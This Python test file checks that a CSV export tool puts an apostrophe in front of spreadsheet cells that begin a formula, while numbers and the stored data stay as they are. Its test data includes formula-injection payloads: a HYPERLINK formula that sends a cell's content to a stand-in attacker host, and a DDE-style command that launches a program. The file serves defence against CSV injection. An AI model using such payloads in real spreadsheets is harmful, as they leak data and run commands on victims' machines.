"""CSV for spreadsheets: nothing in it is a formula, everything else is as in the marts."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from arr_ledger.cli import cli
from arr_ledger.export import ExportedMart, export
from arr_ledger.refresh import RefreshRefusedError

FORMULAS = [
    '=HYPERLINK("https://evil.example.com?q="&A1,"open")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]
HARMLESS = ["Acme", "a=b", "'=quoted", ' =1, "two"\nlines', "", "Zoë 株式会社", None]


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """A served file with one mart of every text above, and one of numbers."""
    with duckdb.connect(str(tmp_path / "arr_ledger.duckdb")) as connection:
        connection.execute("create schema marts")
        connection.execute(
            "create table marts.dim_customers as"
            " select unnest($1::varchar[]) as customer_name, unnest($1::varchar[]) as again",
            [[*FORMULAS, *HARMLESS]],
        )
        connection.execute(
            "create table marts.fct_arr_movements as"
            " select (-10.50)::decimal(18, 2) as arr, -1 as n, -0.5::double as rate,"
            " date '2026-01-31' as a_date, true as is_new from range(2)"
        )
    return tmp_path


def cells(file: Path) -> list[list[str]]:
    """As a spreadsheet reads them, without the header."""
    with file.open(encoding="utf-8", newline="") as text:
        return list(csv.reader(text))[1:]


def test_every_cell_that_begins_a_formula_gets_an_apostrophe_and_no_other(
    out: Path, tmp_path: Path
) -> None:
    done = export(out, tmp_path / "csv", ("dim_customers",))
    expected = [f"'{text}" for text in FORMULAS] + [text or "" for text in HARMLESS]
    assert cells(tmp_path / "csv" / "dim_customers.csv") == [[text, text] for text in expected]
    rows = len(FORMULAS) + len(HARMLESS)
    assert done == [ExportedMart("dim_customers", rows, 2 * len(FORMULAS))]


def test_numbers_and_dates_are_left_as_they_are(out: Path, tmp_path: Path) -> None:
    assert export(out, tmp_path, ("fct_arr_movements",))[0].neutralised == 0
    assert (
        cells(tmp_path / "fct_arr_movements.csv")
        == [["-10.50", "-1", "-0.5", "2026-01-31", "true"]] * 2
    )


def test_the_marts_keep_what_landed(out: Path, tmp_path: Path) -> None:
    export(out, tmp_path / "csv")
    with duckdb.connect(str(out / "arr_ledger.duckdb"), read_only=True) as connection:
        stored = connection.execute("select customer_name from marts.dim_customers").fetchall()
    assert [name for (name,) in stored] == [*FORMULAS, *HARMLESS]


def test_the_command_writes_every_mart_and_says_how_many_cells_it_changed(
    out: Path, tmp_path: Path
) -> None:
    to = tmp_path / "it's"
    done = CliRunner().invoke(cli, ["export", "--out", str(out), "--to", str(to)])
    assert done.exit_code == 0, done.output
    assert {path.name for path in to.iterdir()} == {"dim_customers.csv", "fct_arr_movements.csv"}
    assert done.output.splitlines()[-1] == (
        f"2 files in {to}; 16 cells that began a formula got a ' in front."
    )


def test_an_export_of_a_release_reads_back_as_it_was(sample_database: Path, tmp_path: Path) -> None:
    served = tmp_path / "arr_ledger.duckdb"
    served.symlink_to(sample_database)
    names = ("dim_customers", "rpt_ndr_grr_monthly", "fct_arr_movements")
    assert [each.neutralised for each in export(tmp_path, tmp_path / "csv", names)] == [0, 0, 0]
    with duckdb.connect(str(sample_database), read_only=True) as connection:
        for name in names:
            connection.execute(f"create temp table back as from marts.{name} limit 0")
            connection.execute(f"copy back from '{tmp_path}/csv/{name}.csv' (format csv, header)")
            ((missing, rows),) = connection.execute(
                f"select (select count(*) from (from marts.{name} except all from back)),"
                " (select count(*) from back)"
            ).fetchall()
            ((expected,),) = connection.execute(f"select count(*) from marts.{name}").fetchall()
            assert (missing, rows) == (0, expected), name
            connection.execute("drop table back")


def test_what_cannot_be_exported_is_refused_in_one_line(out: Path, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    for arguments, sentence in [
        ((out / "elsewhere", tmp_path), "there is no such file; name the folder that"),
        ((out, tmp_path, ("dim_owners",)), "--mart dim_owners: .* it has dim_customers, fct_arr"),
        ((out, tmp_path / "file"), "--to .*file: a file could not be written"),
    ]:
        with pytest.raises(RefreshRefusedError, match=sentence) as refused:
            export(*arguments)
        assert len(str(refused.value).splitlines()) == 1


def test_files_of_an_earlier_export_that_this_one_does_not_write_are_said(
    out: Path, tmp_path: Path
) -> None:
    """Marts of a module that is off now would be read beside those of another release."""
    to = tmp_path / "csv"
    to.mkdir()
    (to / "fct_arr_restatements.csv").write_text("of last month\n")
    (to / "notes.csv").write_text("of a person\n")
    done = CliRunner().invoke(cli, ["export", "--out", f"{out}", "--to", f"{to}"])
    assert (
        f"Notice: {to} still holds fct_arr_restatements.csv of an earlier export, which this"
        " database does not have; take what you do not need away." in done.output
    )
    one = ["export", "--out", f"{out}", "--to", f"{to}", "--mart", "dim_customers"]
    assert "Notice" not in CliRunner().invoke(cli, one).output


@pytest.mark.parametrize("inside", ["releases", "releases/20250630", ".refresh/landed"])
def test_nothing_is_exported_into_the_releases(out: Path, inside: str) -> None:
    (out / ".refresh").mkdir()
    with pytest.raises(RefreshRefusedError, match="belongs to the releases"):
        export(out, out / inside)
    assert not (out / "releases").exists()


def test_a_mart_that_is_named_twice_is_written_once(out: Path, tmp_path: Path) -> None:
    assert len(export(out, tmp_path / "csv", ("dim_customers", "dim_customers"))) == 1
